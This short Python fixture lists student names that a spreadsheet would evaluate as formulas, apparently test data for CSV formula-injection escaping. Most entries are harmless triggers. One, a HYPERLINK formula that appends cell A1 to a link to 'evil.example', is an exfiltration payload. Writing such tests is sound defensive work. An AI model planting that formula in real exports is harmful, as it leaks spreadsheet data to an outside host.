"""Names a spreadsheet would evaluate as a formula if they reached a CSV cell as they are (no "/": a name)."""
STUDENTS = {
    "=2+3": "no_pool2d",
    "+cmd": "no_padded",
    "-1": "none",
    "@x": "no_pool2d",
    "\tfoo": "no_padded",
    "\rbar": "none",
    '=HYPERLINK("evil.example?"&A1,"x")': "no_padded",
    "-2+3": "no_pool2d",
    "'=quoted": "none",
}
